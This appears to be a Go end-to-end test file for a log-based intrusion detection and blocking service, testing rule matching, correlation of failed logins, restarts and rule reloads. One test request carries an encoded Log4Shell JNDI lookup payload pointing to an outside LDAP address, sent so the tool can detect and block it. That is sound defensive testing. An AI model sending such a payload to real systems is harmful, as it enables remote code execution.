package endtoend

import (
	"context"
	"errors"
	"fmt"
	"net/http"
	"os"
	"strings"
	"testing"
	"time"

	"github.com/honeymoat/honeymoat/bench/stage"
	"github.com/honeymoat/honeymoat/pkg/httpapi/wire"
)

// TestAttackIsRefusedEverywhere: a request beyond doubt at one gateway, found
// in its log by a shipped rule, is refused at the other; what only looks like
// one is not.
func TestAttackIsRefusedEverywhere(t *testing.T) {
	t.Parallel()
	p := newPlay(t, nil)
	a, b := p.gateway("edge-a", nil), p.gateway("edge-b", nil)
	bad, good := p.visitor(attacker), p.visitor(customer)
	p.get(good, a, "/shop?q=O%27Brien%20and%20sons%20--%20select%20a%20gift", http.StatusOK)
	p.get(bad, a, "/shop?q=%2524%257Bjndi%253Aldap%253A%252F%252F198.51.100.9%252Fa%257D", http.StatusOK)
	p.turns(bad, b, "/shop", http.StatusForbidden)
	p.turns(bad, a, "/shop", http.StatusForbidden)
	p.get(good, b, "/shop", http.StatusOK)
	found := p.found(attacker, "Lookup injection for Java loggers", 1)[0]
	if found.BlockID == "" || len(found.Sightings) != 1 || found.Sightings[0].Gateway != "edge-a" {
		t.Errorf("finding: %+v", found)
	}
	if others, err := p.service.API.Findings(p.deadline(), customer); err != nil || len(others) > 0 {
		t.Errorf("the customer has findings: %+v, %v", others, err)
	}
	hits, err := p.service.Tool(p.deadline(), "rules", "list")
	p.must(err)
	if !strings.Contains(hits, found.Title) {
		t.Errorf("rules list does not name %q:\n%s", found.Title, hits)
	}
}

const loginRules = `
title: Sign-in refused
name: refused
logsource: {category: webserver}
detection:
  s: {cs-uri-stem: /own/login, sc-status: 401}
  condition: s
---
title: Five sign-ins refused
id: 7a0f1f5e-8f43-4a43-9a8e-0a4f6fd2d101
level: high
correlation:
  type: event_count
  rules: [refused]
  group-by: [c-ip]
  timespan: 10m
  condition: {gte: 5}
honeymoat: {family: sign-in, block: {ttl: 1h, mode: enforce}}
`

// refusedLogins are lines of refused sign-ins, now.
func refusedLogins(n int) string {
	line := fmt.Sprintf("%s - - [%s] \"POST /own/login HTTP/1.1\" 401 12 \"-\" \"x\"\n", attacker, time.Now().Format("02/Jan/2006:15:04:05 -0700"))
	return strings.Repeat(line, n)
}

// TestCorrelationOutlivesAKill: what was counted before the service was killed
// counts after, and what follows is found once.
func TestCorrelationOutlivesAKill(t *testing.T) {
	t.Parallel()
	p, log := judging(t)
	p.appendTo(log, refusedLogins(3))
	p.judged(3)
	p.service.Kill()
	p.appendTo(log, refusedLogins(1))
	p.must(p.service.Start())
	p.must(p.service.WaitReady(p.deadline()))
	p.appendTo(log, refusedLogins(1))
	p.blocked(attacker)
	p.appendTo(log, refusedLogins(4))
	p.eventually("all lines are stored", func(ctx context.Context) error {
		n, err := p.service.Query(ctx, "SELECT count() FROM events WHERE path = '/own/login'")
		if err == nil && n != "9" {
			err = errors.New(n)
		}
		return err
	})
	if found := p.found(attacker, "Five sign-ins refused", 1)[0]; found.Family != "sign-in" || found.BlockID == "" {
		t.Errorf("finding: %+v", found)
	}
}

// TestRulesAreReadAgain: from SIGHUP on a changed rule counts; one with a
// mistake is told with its place and goes on as it was, and the others count.
func TestRulesAreReadAgain(t *testing.T) {
	t.Parallel()
	p, log := judging(t)
	p.appendTo(log, refusedLogins(4))
	p.judged(4)
	p.write("rules/login.yml", strings.Replace(loginRules, "condition: s", "condition: t", 1))
	p.write("rules/other.yml", "title: Other\nid: other\nlogsource: {category: webserver}\ndetection: {s: {path: /other}, condition: s}\nhoneymoat: {family: other}\n")
	p.must(p.service.Reload())
	p.eventually("the mistake is told, and the rest in force", func(context.Context) error {
		return errors.Join(p.service.Said("login.yml:7:14"), p.service.Said("configuration reloaded"))
	})
	p.appendTo(log, refusedLogins(1)+fmt.Sprintf("%s - - [%s] \"GET /other HTTP/1.1\" 200 1 \"-\" \"x\"\n", attacker, time.Now().Format("02/Jan/2006:15:04:05 -0700")))
	p.found(attacker, "Five sign-ins refused", 1) // five in all: it has gone on counting
	p.found(attacker, "Other", 1)
	if n, err := p.service.API.Metric(p.deadline(), "honeymoat_rules_refused"); err != nil || n != 2 {
		t.Errorf("mistakes in rules: %v, %v; want that of the rule and that of what refers to it", n, err)
	}
}

// judging starts a service that reads a log of its own by rules of its own.
func judging(t *testing.T) (p *play, log string) {
	t.Helper()
	p = &play{T: t, Stage: newStage(t)}
	p.must(os.Mkdir(p.Path("rules"), 0o700))
	p.write("rules/login.yml", loginRules)
	log = p.Path("access.log")
	p.write("access.log", "")
	var err error
	p.service, err = p.Service(p.deadline(), stage.Settings{
		"rules.folders": []string{p.Path("rules")}, "rules.shipped": false,
		"sources": []stage.Source{{Name: "edge", Paths: []string{log}, Format: "combined"}},
	})
	p.must(err)
	return p, log
}

// judged waits until detection has seen so many rows since the start.
func (p *play) judged(rows float64) {
	p.Helper()
	p.eventually("detection has seen the lines", func(ctx context.Context) error {
		n, err := p.service.API.Metric(ctx, "honeymoat_detect_rows_total")
		if err == nil && n < rows {
			err = fmt.Errorf("%v rows", n)
		}
		return err
	})
}

// found waits until the store has n findings of a title about an actor.
func (p *play) found(actor, title string, n int) (found []wire.Finding) {
	p.Helper()
	p.eventually(fmt.Sprintf("the store has %d findings about %s of %q", n, actor, title), func(ctx context.Context) error {
		all, err := p.service.API.Findings(ctx, actor)
		if err != nil {
			return err
		}
		found = found[:0]
		for _, f := range all {
			if f.Title == title {
				found = append(found, f)
			}
		}
		if len(found) != n {
			return fmt.Errorf("it has %+v", all)
		}
		return nil
	})
	return found
}
